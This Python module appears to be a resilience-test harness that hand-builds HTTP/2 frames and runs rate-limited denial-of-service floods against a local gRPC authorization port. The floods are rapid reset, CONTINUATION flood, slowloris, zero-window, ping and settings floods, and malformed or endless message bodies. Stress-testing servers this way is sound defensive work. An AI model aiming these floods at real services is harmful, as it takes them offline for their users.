"""Peers that mean harm: HTTP/2 by hand, at the port that proxies ask.

Owns the frames and the attacks. Each attack is a loop on a connection of
its own that starts again when the server ends it, and is told how many frames a second it may send: the machine is shared.
"""
import contextlib
import itertools
import select
import socket
import struct
import threading
import time
from collections.abc import Callable, Iterator

DATA, HEADERS, RESET, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4
PATH = b"/envoy.service.auth.v3.Authorization/Check"


def frame(kind: int, flags: int = 0, stream: int = 0, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def text(value: bytes) -> bytes:
    """A string of HPACK, below 127 bytes and not compressed."""
    return bytes([len(value)]) + value


# POST, http, path, authority, content-type, te; none of them indexed.
CALL = (b"\x83\x86\x04" + text(PATH) + b"\x01" + text(b"127.0.0.1") + b"\x0f\x10" + text(b"application/grpc")
        + b"\x00" + text(b"te") + text(b"trailers"))
HELLO = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS)
EMPTY_MESSAGE = b"\x00" + struct.pack(">I", 0)
# It says one MiB, and sends the first KiB of it.
BEGUN_MESSAGE = b"\x00" + struct.pack(">I", 1 << 20) + b"\x0a" * 1024


def field(number: int, value: bytes) -> bytes:
    """A message or bytes in a message, of 128 to 16,383 bytes."""
    return bytes([number << 3 | 2, len(value) & 0x7F | 0x80, len(value) >> 7]) + value


# Attributes, request, http: header lines without name and value, each many times larger once it is read.
CHECK = field(1, field(4, field(2, b"\x1a\x00" * 2000)))
EMPTY_HEADERS = b"\x00" + struct.pack(">I", len(CHECK)) + CHECK


def streams() -> Iterator[int]:
    return itertools.count(1, 2)


def rapid_reset() -> Iterator[bytes]:
    for stream in streams():
        yield frame(HEADERS, END_HEADERS, stream, CALL) + frame(RESET, 0, stream, struct.pack(">I", 8))


def half_messages() -> Iterator[bytes]:
    for stream in streams():
        yield frame(HEADERS, END_HEADERS, stream, CALL) + frame(DATA, 0, stream, BEGUN_MESSAGE)


def fat_messages() -> Iterator[bytes]:
    """Nearly all of messages that never end: whoever keeps what came until it is whole keeps it all."""
    for stream in streams():
        yield frame(HEADERS, END_HEADERS, stream, CALL) + frame(DATA, 0, stream, BEGUN_MESSAGE)
        for _ in range(60):
            yield frame(DATA, 0, stream, bytes(16_384))


def endless_calls() -> Iterator[bytes]:
    """Messages that are whole and hold little but empty headers, of calls that do not end: whoever waits for the end keeps each until then."""
    for stream in streams():
        yield frame(HEADERS, END_HEADERS, stream, CALL) + frame(DATA, 0, stream, EMPTY_HEADERS)


def no_window() -> Iterator[bytes]:
    """Checks whose answers the server may not send."""
    yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
    for stream in streams():
        yield frame(HEADERS, END_HEADERS, stream, CALL) + frame(DATA, END_STREAM, stream, EMPTY_MESSAGE)


def continuations() -> Iterator[bytes]:
    yield frame(HEADERS, 0, 1, CALL)
    while True:
        yield frame(CONTINUATION, 0, 1, b"\x00" + text(b"x-padding") + text(b"y" * 120))


def pings() -> Iterator[bytes]:
    while True:
        yield frame(PING, 0, 0, b"01234567")


def settings() -> Iterator[bytes]:
    for size in itertools.cycle((65_535, 32_768)):
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, size))


def empty_data() -> Iterator[bytes]:
    yield frame(HEADERS, END_HEADERS, 1, CALL)
    while True:
        yield frame(DATA, 0, 1)


def lies() -> Iterator[bytes]:
    """Messages that are compressed and are not, longer than they say, no messages at all, nested without end."""
    deep = b"\x0a\x7f" * 4096
    bodies = [b"\x01" + struct.pack(">I", 4) + b"bomb", b"\x00" + struct.pack(">I", 2) + b"longer", b"\xff" * 64,
              b"\x00" + struct.pack(">I", len(deep)) + deep, b"\x00" + struct.pack(">I", 0xFFFF_FFFF)]
    for stream, body in zip(streams(), itertools.cycle(bodies)):
        yield frame(HEADERS, END_HEADERS, stream, CALL) + frame(DATA, END_STREAM, stream, body)


def slowly() -> Iterator[bytes]:
    """A byte at a time, of what would be a good call."""
    call = HELLO + frame(HEADERS, END_HEADERS, 1, CALL) + frame(DATA, 0, 1, BEGUN_MESSAGE)
    for byte in call:
        yield bytes([byte])


# Frames a second, connections at once, whether it reads what the server says, whether it says hello first.
ATTACKS: dict[Callable[[], Iterator[bytes]], tuple[int, int, bool, bool]] = {
    rapid_reset: (500, 2, True, True),
    half_messages: (200, 4, True, True),
    fat_messages: (100, 2, True, True),
    endless_calls: (200, 2, True, True),
    no_window: (200, 8, True, True),
    continuations: (500, 2, True, True),
    pings: (500, 2, False, True),
    settings: (500, 2, False, True),
    empty_data: (500, 2, True, True),
    lies: (200, 2, True, True),
    slowly: (2, 100, True, False),
}


class Hostile:
    """All attacks at once, until it is closed."""

    def __init__(self, port: int, share: float = 1.0) -> None:
        self.port, self.ended, self.counts = port, threading.Event(), {attack.__name__: [0, 0] for attack in ATTACKS}
        for attack, (rate, connections, reads, hello) in ATTACKS.items():
            for _ in range(max(round(connections * share), 1)):
                threading.Thread(target=self.attack, args=(attack, rate * share, reads, hello), daemon=True).start()

    def attack(self, attack: Callable[[], Iterator[bytes]], rate: float, reads: bool, hello: bool) -> None:
        counted = self.counts[attack.__name__]
        while not self.ended.is_set():
            counted[0] += 1
            with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", self.port), 5) as peer:
                if hello:
                    peer.sendall(HELLO)
                for sent in self.paced(attack(), rate):
                    peer.sendall(sent)
                    counted[1] += 1
                    if reads and not drained(peer):
                        break
            self.ended.wait(0.5)

    def paced(self, frames: Iterator[bytes], rate: float) -> Iterator[bytes]:
        """In portions of a twentieth of a second, for at most half a minute a connection."""
        begin, sent = time.monotonic(), 0
        for one in frames:
            due = begin + sent / rate
            if due - time.monotonic() > 0.05:
                self.ended.wait(due - time.monotonic())
            if self.ended.is_set() or time.monotonic() - begin > 30:
                return
            yield one
            sent += 1

    def close(self) -> str:
        self.ended.set()
        return "; ".join(f"{name} {connections} connections, {frames} frames" for name, (connections, frames) in self.counts.items())


def drained(peer: socket.socket) -> bool:
    """Reads what is there; false when the server has ended the connection."""
    while select.select([peer], [], [], 0)[0]:
        if not peer.recv(65_536):
            return False
    return True
